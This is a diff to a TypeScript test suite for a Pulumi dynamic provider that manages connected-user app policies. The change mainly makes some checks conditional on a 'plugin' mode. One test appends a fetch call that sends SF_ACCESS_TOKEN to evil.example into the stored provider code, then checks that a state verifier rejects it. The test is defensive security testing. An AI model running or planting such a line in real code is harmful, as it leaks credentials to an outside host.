@@ -81,7 +81,9 @@ describe("Dieppe Trading on the real engine", () => {
     authorize("Shiny AI Notetaker");
     const drift = await project.run("preview", "--diff", "--expect-no-changes");
     expect(drift.code).toBe(7);
-    expect(drift.output.match(/__approval.*/g)).toEqual(["__approval (hidden)"]);
+    // The plugin says itself what differs, and this is nothing to be shown.
+    const hidden = project.door === "plugin" ? null : ["__approval (hidden)"];
+    expect(drift.output.match(/__approval.*/g)).toEqual(hidden);
     expect(revocationLines(drift.output, "+")).toEqual([
       '+ ada.dubois@dieppe.example: "app not listed (policy/dieppe-trading.yaml:6); in use"',
     ]);
@@ -196,47 +198,51 @@ describe("Dieppe Trading on the real engine", () => {
     expect((await project.run("preview", "--expect-no-changes")).code).toBe(0);
   });
 
-  it("keeps its code out of the state: what the state holds of the provider is small and constant", async () => {
-    await project.run("up", "--yes", "--skip-preview");
-    const state = JSON.parse(await project.read(STATE_FILE));
-    const resources = state.checkpoint.latest.resources as {
-      type: string;
-      inputs: Record<string, unknown>;
-      outputs: Record<string, unknown>;
-    }[];
-    const policy = resources.find(
-      ({ type }) => type === "pulumi-nodejs:dynamic/sanctioned:ConnectedUserPolicy",
-    )!;
-    expect(policy.inputs.__provider).toBe(PROVIDER_TEXT);
-    expect(PROVIDER_TEXT.length).toBeLessThan(1_000);
-    expect(policy.outputs.revocations).toEqual({});
-    const { head } = verifyRecord(await project.read(RECORD), []);
-    expect([policy.outputs.auditHead, resources[0]!.outputs.auditHead]).toEqual([head, head]);
-    expect(Object.keys(policy.inputs).sort()).toEqual([
-      "__approval", // until the next refresh
-      "__provider",
-      "__urn",
-      "org",
-      "policy",
-      "policyFile",
-      "revocations",
-    ]);
+  // test/pulumi/plugin.test.ts holds that a state of the plugin has none.
+  it.skipIf(process.env.SANCTIONED_TEST_DOOR === "plugin")(
+    "keeps its code out of the state: what the state holds of the provider is small and constant",
+    async () => {
+      await project.run("up", "--yes", "--skip-preview");
+      const state = JSON.parse(await project.read(STATE_FILE));
+      const resources = state.checkpoint.latest.resources as {
+        type: string;
+        inputs: Record<string, unknown>;
+        outputs: Record<string, unknown>;
+      }[];
+      const policy = resources.find(
+        ({ type }) => type === "pulumi-nodejs:dynamic/sanctioned:ConnectedUserPolicy",
+      )!;
+      expect(policy.inputs.__provider).toBe(PROVIDER_TEXT);
+      expect(PROVIDER_TEXT.length).toBeLessThan(1_000);
+      expect(policy.outputs.revocations).toEqual({});
+      const { head } = verifyRecord(await project.read(RECORD), []);
+      expect([policy.outputs.auditHead, resources[0]!.outputs.auditHead]).toEqual([head, head]);
+      expect(Object.keys(policy.inputs).sort()).toEqual([
+        "__approval", // until the next refresh
+        "__provider",
+        "__urn",
+        "org",
+        "policy",
+        "policyFile",
+        "revocations",
+      ]);
 
-    // Pulumi runs what stands there at the next refresh, with the credential: this is asked before.
-    expect(await verifyState()).toEqual({
-      status: 0,
-      output: "The state on standard input runs this package alone: 3 resources looked at.\n",
-    });
-    const seen = org.requests.length;
-    policy.outputs.__provider += 'fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);';
-    await project.write(STATE_FILE, JSON.stringify(state));
-    const { status, output } = await verifyState();
-    expect(status).toBe(1);
-    expect(output).toMatch(
-      /ConnectedUserPolicy::connected-users: its outputs hold other code .*\[state-foreign-code]/,
-    );
-    expect(output).toContain("[state-not-verified]");
-    expect(output).not.toContain("evil");
-    expect(org.requests.length).toBe(seen);
-  });
+      // Pulumi runs what stands there at the next refresh, with the credential: this is asked before.
+      expect(await verifyState()).toEqual({
+        status: 0,
+        output: "The state on standard input runs this package alone: 3 resources looked at.\n",
+      });
+      const seen = org.requests.length;
+      policy.outputs.__provider += 'fetch("https://evil.example/?" + process.env.SF_ACCESS_TOKEN);';
+      await project.write(STATE_FILE, JSON.stringify(state));
+      const { status, output } = await verifyState();
+      expect(status).toBe(1);
+      expect(output).toMatch(
+        /ConnectedUserPolicy::connected-users: its outputs hold other code .*\[state-foreign-code]/,
+      );
+      expect(output).toContain("[state-not-verified]");
+      expect(output).not.toContain("evil");
+      expect(org.requests.length).toBe(seen);
+    },
+  );
 });
